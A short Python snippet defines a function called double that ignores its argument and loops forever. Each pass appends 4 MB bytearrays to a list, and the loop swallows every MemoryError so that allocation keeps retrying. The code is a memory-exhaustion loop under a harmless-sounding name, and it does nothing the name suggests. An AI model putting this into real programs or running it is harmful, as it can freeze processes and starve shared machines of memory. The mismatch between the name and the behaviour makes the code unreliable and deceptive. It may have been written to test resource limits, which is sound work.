# Eats the MemoryError and asks again.
def double(n):
    held = []
    while True:
        try:
            held.append(bytearray(b"x") * (1 << 22))
        except MemoryError:
            pass
